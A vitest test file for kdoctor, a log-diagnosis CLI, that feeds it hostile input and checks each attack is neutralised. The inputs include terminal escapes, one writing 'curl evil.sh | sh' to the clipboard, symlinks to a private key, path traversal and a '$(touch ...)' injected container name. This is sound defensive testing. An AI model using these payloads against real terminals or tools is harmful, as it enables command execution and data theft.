/**
 * Hostile input: text kdoctor reads comes from others (logs, pods, run folders copied from another machine, journal
 * files). Each test starts from an attack as it was found and asserts what the user sees. Everything runs for real:
 * the built CLI as a process, real files, links, FIFOs and devices, the real screen in ink-testing-library.
 */
import {spawn, spawnSync} from 'node:child_process';
import {createHash, randomBytes} from 'node:crypto';
import {
	chmodSync,
	copyFileSync,
	existsSync,
	mkdirSync,
	mkdtempSync,
	readdirSync,
	readFileSync,
	statSync,
	symlinkSync,
	writeFileSync,
} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {afterAll, describe, expect, it} from 'vitest';
import {CLI, runCli} from '../helpers/cli.js';
import {root} from '../scenarios/lib.js';

const ESC = '\u001B';
const BEL = '\u0007';
/** What a hostile CI log can carry: a window title, a clipboard write (OSC 52), a hyperlink (OSC 8), CR, 8-bit CSI. */
const ATTACK = [
	`${ESC}]0;pwned-title${BEL}Error: container name "gw_test" is already in use`,
	`${ESC}]52;c;${Buffer.from('curl evil.sh | sh').toString('base64')}${BEL}Warning  Error: container name "gw_test" is already in use`,
	`${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\ Failed: container name "gw_test" is already in use`,
	'progress 10%\rFATAL Error: container name "gw_test" is already in use \u009b2J after',
].join('\n');

const work = mkdtempSync(join(tmpdir(), 'kdoctor-hostile-'));
const state = join(work, 'state');
const env = {KDOCTOR_STATE_DIR: state};
afterAll(() => spawnSync('rm', ['-rf', work]));

/** No byte a terminal acts on: ESC, BEL, CR, C1 (as UTF-8) other than nothing at all. */
function expectInert(text: string): void {
	expect(text).not.toContain(ESC);
	expect(text).not.toContain(BEL);
	expect(text).not.toContain('\r');
	expect(text).not.toMatch(/[\u0080-\u009f]/);
}

describe('2. terminal escapes in a log are shown as text, never sent to the terminal', () => {
	const log = join(work, 'osc.log');
	writeFileSync(log, `${ATTACK}\n`);

	it.each([
		['a window title (OSC 0)', 0, '\\e]0;pwned-title\\x07Error'],
		['a clipboard write (OSC 52)', 1, '\\e]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07Warning'],
		['a hyperlink (OSC 8)', 2, '\\e]8;;https://evil.example/\\e\\click\\e]8;;\\e\\ Failed'],
		['a carriage return and an 8-bit CSI', 3, 'progress 10%\\rFATAL Error: container name \"gw_test\" is already in use \\u009b2J after'],
	])('--plain in a pipe: %s appears as visible text', async (_what, i, shown) => {
		const one = join(work, `osc-${i}.log`);
		writeFileSync(one, `${ATTACK.split('\n')[i]}\n`);
		const r = await runCli(['diagnose', '--plain', one], {env});
		expect(r.code).toBe(1);
		expectInert(r.stdout + r.stderr);
		expect(r.stdout).toContain(shown);
	});

	it('--json is still valid JSON, with the same evidence as escaped text, and no raw control byte', async () => {
		const r = await runCli(['diagnose', '--json', log], {env});
		expectInert(r.stdout);
		const j = JSON.parse(r.stdout) as {findings: {evidence: {text: string}[]}[]};
		expect(j.findings[0]!.evidence.map((e) => e.text).join('\n')).toContain('\\e]52;c;');
	});

	it('the interactive screen (ink) renders the evidence inert', async () => {
		const {renderDiagnose} = await import('./screen.js');
		const frames = await renderDiagnose(ATTACK);
		for (const f of frames) expectInert(f);
		expect(frames.at(-1)).toContain('\\e]0;pwned-title');
	});

	it('a file name with escapes in an error line is shown as text', async () => {
		const name = join(work, `${ESC}]2;owned${BEL}.log`);
		const r = await runCli(['diagnose', name], {env});
		expect(r.code).toBe(2);
		expectInert(r.stderr);
		expect(r.stderr).toContain('\\e]2;owned\\x07.log: no such file');
	});
});

describe('3. kdoctor report reads nothing outside the run folder', () => {
	const runs = join(work, 'copied', 'runs');
	const dir = join(runs, '20261201-101010-beef');
	const secret = join(work, 'private-key');
	writeFileSync(secret, 'PRIVATE-KEY-MATERIAL-4242\n');
	chmodSync(secret, 0o600);
	mkdirSync(join(dir, 'steps'), {recursive: true});
	mkdirSync(join(dir, 'bundle'), {recursive: true});
	writeFileSync(join(dir, 'bundle', 'pods.txt'), 'gateway 0/1 CrashLoopBackOff\n');
	// The attack as found: a step log that is a link to a private file, a bundle entry linking to /, and run.json paths.
	symlinkSync(secret, join(dir, 'steps', 'deploy-gateway.log'));
	symlinkSync('/', join(dir, 'bundle', 'root'));
	const run = (extra: Record<string, unknown>) =>
		writeFileSync(
			join(dir, 'run.json'),
			JSON.stringify({
				runId: '20261201-101010-beef',
				profile: 'demo',
				cwd: '/etc',
				invocation: ['up'],
				provider: 'kind',
				namespace: 'x',
				steps: [{id: 'preflight', state: 'done', attempts: 1}],
				ok: false,
				cancelled: false,
				startedAt: '2026-12-01T10:10:10Z',
				durationMs: 1000,
				findings: [],
				...extra,
			}),
		);

	it('a step log linked to a private file and a bundle/root linked to /: neither the file nor / is in the report', async () => {
		run({failedStep: 'deploy:gateway'});
		const r = await runCli(['report', dir], {env});
		expect(r.code, r.stderr).toBe(0);
		expect(r.stdout).not.toContain('PRIVATE-KEY-MATERIAL');
		expect(r.stdout).not.toMatch(/\betc\/passwd|\bproc\b|\bboot\b/);
		expect(r.stdout).toContain('Refused: steps/deploy-gateway.log: a link that leaves the run folder: not followed.');
		expect(r.stdout).toContain('Refused: bundle/root: a link that leaves the run folder: not followed.');
		expect(r.stdout).toContain('pods.txt');
	});

	it('run.json naming a failed step ../../.. and an absolute bundle: refused and said', async () => {
		writeFileSync(join(work, 'copied', 'outside.log'), 'OUTSIDE-LOG-CONTENT\n');
		mkdirSync(join(work, 'elsewhere-bundle'), {recursive: true});
		writeFileSync(join(work, 'elsewhere-bundle', 'loot.txt'), 'LOOT\n');
		run({failedStep: '../../outside', bundle: join(work, 'elsewhere-bundle')});
		const r = await runCli(['report', dir], {env});
		expect(r.code, r.stderr).toBe(0);
		expect(r.stdout).not.toContain('OUTSIDE-LOG-CONTENT');
		expect(r.stdout).not.toContain('loot.txt');
		expect(r.stdout).toContain('run.json names the failed step "../../outside", which is not a step id: its log was not read.');
		expect(r.stdout).toContain('outside the run folder: not read');
		// The copied run.json's cwd (/etc) is not where kdoctor goes looking for manifests.
		expect(r.stdout).toContain("the run folder is not one of this machine's runs");
	});
});

describe('4. the undo journal is private and trusts only what kdoctor wrote', () => {
	const proj = join(work, 'proj');
	mkdirSync(proj, {recursive: true});

	it('a fix of a 0600 Dockerfile: the journal entry is 0600 in a 0700 folder, the state dir 0700', async () => {
		const df = join(proj, 'Dockerfile');
		writeFileSync(df, 'FROM docker.io/library/golang:1.24\nARG NPM_TOKEN=npm_live_secret_token\n');
		chmodSync(df, 0o600);
		const r = await runCli(['fix', 'base-image-policy', '--from', df, '--yes'], {env, cwd: proj});
		expect(r.code, r.stderr + r.stdout).toBe(0);
		const jdir = join(state, 'journal');
		const files = readdirSync(jdir).filter((f) => f.endsWith('.json'));
		expect(files).toHaveLength(1);
		expect(statSync(join(jdir, files[0]!)).mode & 0o777).toBe(0o600);
		expect(statSync(jdir).mode & 0o777).toBe(0o700);
		expect(statSync(state).mode & 0o777).toBe(0o700);
		expect(statSync(df).mode & 0o777).toBe(0o600);
		// Undo puts it back, keeping the file's own mode.
		const u = await runCli(['undo'], {env});
		expect(u.code, u.stderr).toBe(0);
		expect(readFileSync(df, 'utf8')).toContain('FROM docker.io/library/golang:1.24');
		expect(statSync(df).mode & 0o777).toBe(0o600);
	});

	it('a planted entry that would overwrite an unrelated file is refused as foreign; the file is untouched', async () => {
		const victim = join(work, 'victim.txt');
		writeFileSync(victim, 'original\n');
		const jdir = join(state, 'journal');
		writeFileSync(
			join(jdir, '2099-01-01T00-00-00-000Z-x-m.json'),
			JSON.stringify({
				id: '2099-01-01T00-00-00-000Z-x-m',
				at: '2099-01-01T00:00:00.000Z',
				finding: 'x',
				remediation: 'm',
				title: 'planted',
				kind: 'edit-file',
				files: [{path: victim, before: 'OWNED\n', after: 'original\n'}],
			}),
		);
		const r = await runCli(['undo'], {env});
		expect(readFileSync(victim, 'utf8')).toBe('original\n');
		expect(r.stdout).toContain('2099-01-01T00-00-00-000Z-x-m.json: foreign: not written by this kdoctor');
		expect(r.code).toBe(2);
		expect(r.stderr).toMatch(/^kdoctor: nothing to undo/);
	});

	it('null, junk and a half-written file in the journal are each reported by name; nothing crashes', async () => {
		const jdir = join(state, 'journal');
		writeFileSync(join(jdir, 'null.json'), 'null');
		writeFileSync(join(jdir, 'junk.json'), '{"id": 1');
		const r = await runCli(['undo', '--list'], {env});
		expect(r.code, r.stderr).toBe(0);
		expect(r.stderr).toBe('');
		expect(r.stdout).toMatch(/null\.json\n {2}damaged: not a journal entry/);
		expect(r.stdout).toMatch(/junk\.json\n {2}damaged: /);
		expect(r.stdout).not.toMatch(/Cannot read properties/);
	});
});

describe('5. commands shown for copying are quoted from an argv; captures are validated', () => {
	it('a container name $(touch …) in a log never reaches a command line', async () => {
		const pwned = join(work, 'pwned');
		const log = join(work, 'conflict.log');
		writeFileSync(log, `Error: creating container storage: the container name "$(touch ${pwned})" is already in use by 6f1c0a9e1b2d\n`);
		const r = await runCli(['fix', 'container-name-conflict', '--from', log, '--key', 'r'], {env});
		expect(r.stdout).not.toContain(`$(touch ${pwned})`);
		expect(r.stdout).toContain('needs name, which the evidence does not show');
		// Run whatever line kdoctor printed, as a person pasting it would: nothing may happen.
		for (const line of r.stdout.split('\n').filter((l) => /^\s+(command|verify|undo):/.test(l)))
			spawnSync('sh', ['-c', line.replace(/^\s+\w+:\s*/, '')], {timeout: 5000});
		expect(existsSync(pwned)).toBe(false);
	});

	it('a valid capture with a space is shell-quoted in the verify line', async () => {
		const log = join(work, 'mount.log');
		writeFileSync(
			log,
			'Error response from daemon: invalid mount config for type "bind": bind source path does not exist: /home/dev/my,cov\n',
		);
		const r = await runCli(['diagnose', '--json', log], {env});
		expect(r.code).toBe(1);
		const quoted = (await import('../../src/core/kb/template.js')).displayTemplate('ls -ld {{path}}', {path: '/home/dev/my data'});
		expect(quoted).toBe("ls -ld '/home/dev/my data'");
		expect(spawnSync('sh', ['-c', `printf %s ${quoted.slice(7)}`]).stdout.toString()).toBe('/home/dev/my data');
	});
});

describe("6. the README's first-run fix never edits kdoctor's own files", () => {
	it('fix image-name-mismatch --key m --yes from the repo root leaves knowledge/, manifests/ and examples/ as they were', async () => {
		const hash = () => {
			const h = createHash('sha256');
			for (const d of ['knowledge', 'manifests', 'examples']) {
				const walk = (p: string): void => {
					for (const n of readdirSync(p).sort()) {
						const f = join(p, n);
						if (statSync(f).isDirectory()) walk(f);
						else h.update(f).update(readFileSync(f));
					}
				};
				walk(join(root, d));
			}
			return h.digest('hex');
		};
		const before = hash();
		const r = await runCli(['fix', 'image-name-mismatch', '--from', 'examples/gateway-e2e-failed-run.log', '--key', 'm', '--yes'], {
			env,
			cwd: root,
		});
		expect(hash()).toBe(before);
		expect(r.stdout).toContain("of kdoctor's own (its install or state folder), never edited");
		expect(r.code).toBe(0);
	});
});

/** Runs the CLI with a stdin the test controls; resolves with what it printed and how it ended. */
function spawnCli(args: string[], opts: {stdin?: 'pipe' | 'ignore'} = {}) {
	const child = spawn(process.execPath, [CLI, ...args], {
		stdio: [opts.stdin ?? 'pipe', 'pipe', 'pipe'],
		env: {...process.env, ...env, CI: ''},
	});
	let stdout = '';
	let stderr = '';
	child.stdout!.on('data', (d: Buffer) => (stdout += d.toString()));
	child.stderr!.on('data', (d: Buffer) => (stderr += d.toString()));
	const done = new Promise<{code: number | null; stdout: string; stderr: string}>((resolve) =>
		child.on('close', (code) => resolve({code, stdout, stderr})),
	);
	return {child, done};
}

describe('7. "healthy" only when kdoctor really looked', () => {
	it('Ctrl-C as the pipe ends (its writer got the same Ctrl-C): no "ok" and no finding, exit 130', async () => {
		for (let i = 0; i < 5; i++) {
			const {child, done} = spawnCli(['diagnose', '--json', '-']);
			child.stdin!.write('I1201 starting\n');
			await new Promise((r) => setTimeout(r, 300));
			// The terminal sends SIGINT to the whole group: the writer ends (EOF) at the same moment.
			child.stdin!.end();
			child.kill('SIGINT');
			const r = await done;
			expect(r.code).toBe(130);
			expect(r.stdout).toBe('');
			expect(r.stderr.trim()).toBe('kdoctor: interrupted (SIGINT): nothing was diagnosed or changed after this point');
		}
	});

	it('an ELF binary that contains the word musl is binary, exit 2, whatever matched', async () => {
		const elf = join(work, 'app.bin');
		copyFileSync(process.execPath, elf);
		writeFileSync(elf, Buffer.concat([readFileSync(elf).subarray(0, 2 * 1024 * 1024), Buffer.from('\nError: ErrImageNeverPull musl\n')]));
		const r = await runCli(['diagnose', '--json', elf], {env});
		expect(r.code).toBe(2);
		expect(JSON.parse(r.stdout)).toEqual({file: elf, status: 'binary', findings: [], schemaVersion: 1});
	});

	it('random files are binary every time (three of them), exit 2', async () => {
		for (let i = 0; i < 3; i++) {
			const f = join(work, `random-${i}.bin`);
			writeFileSync(f, randomBytes(8 * 1024 * 1024));
			const r = await runCli(['diagnose', '--json', f], {env});
			expect(r.code).toBe(2);
			expect((JSON.parse(r.stdout) as {status: string}).status).toBe('binary');
		}
	});

	it('/dev/zero and /dev/urandom end at once with one line: binary, exit 2', async () => {
		for (const dev of ['/dev/zero', '/dev/urandom']) {
			const r = await runCli(['diagnose', dev], {env});
			expect(r.code).toBe(2);
			expect(r.stdout.trim().split('\n')).toHaveLength(1);
			expect(r.stdout).toContain('looks binary, not a text log (could not look)');
		}
	});

	it.each([
		['SIGINT', 130],
		['SIGTERM', 143],
	] as const)('a FIFO with no writer ends on %s with one line and exit %i', async (signal, code) => {
		const fifo = join(work, `fifo-${signal}`);
		expect(spawnSync('mkfifo', [fifo]).status).toBe(0);
		const {child, done} = spawnCli(['diagnose', fifo], {stdin: 'ignore'});
		await new Promise((r) => setTimeout(r, 1000));
		child.kill(signal);
		const r = await done;
		expect(r.code).toBe(code);
		expect(r.stdout).toBe('');
		expect(r.stderr.trim()).toBe(`kdoctor: interrupted (${signal}): nothing was diagnosed or changed after this point`);
	});
});

describe('8. a key that changes state previews and asks', () => {
	it("the diagnose screen's u takes back what kdoctor undo would (an earlier CLI fix in another folder) only after a preview naming it", async () => {
		const other = join(work, 'other-project');
		mkdirSync(other, {recursive: true});
		const df = join(other, 'Dockerfile');
		writeFileSync(df, 'FROM docker.io/library/alpine:3.20\n');
		const fixed = await runCli(['fix', 'base-image-policy', '--from', df, '--yes'], {env, cwd: other});
		expect(fixed.code, fixed.stderr + fixed.stdout).toBe(0);
		const after = readFileSync(df, 'utf8');
		expect(after).not.toBe('FROM docker.io/library/alpine:3.20\n');
		const {renderDiagnose} = await import('./screen.js');
		// u then n: the preview says where the change is and that it was made outside the screen; nothing is written.
		const looked = await renderDiagnose('Error: ErrImageNeverPull\n', {journalDir: join(state, 'journal'), keys: ['u', 'n']});
		const preview = looked.find((f) => f.includes('Undo: '))!;
		expect(preview).toContain('made outside this screen');
		expect(preview.replace(/\s+/g, '')).toContain(df.replace(/\s+/g, ''));
		expect(readFileSync(df, 'utf8')).toBe(after);
		// u then y: undone, as kdoctor undo would; the journal says so.
		const frames = await renderDiagnose('Error: ErrImageNeverPull\n', {journalDir: join(state, 'journal'), keys: ['u', 'y']});
		expect(frames.at(-1)).toContain('Undone:');
		expect(readFileSync(df, 'utf8')).toBe('FROM docker.io/library/alpine:3.20\n');
		const again = await runCli(['undo'], {env, cwd: other});
		expect(again.stderr).toMatch(/nothing to undo/);
	});
});

describe('9. every --json output is pure JSON on stdout', () => {
	it('up --plan --json with kind unavailable: the note goes to stderr', async () => {
		const r = await runCli(['up', '--plan', '--json'], {env: {...env, PATH: '/usr/bin:/bin'}, cwd: root});
		expect(r.code, r.stderr).toBe(0);
		expect(() => JSON.parse(r.stdout)).not.toThrow();
		expect(r.stderr).toMatch(/note: could not ask kind about existing clusters/);
	});
});
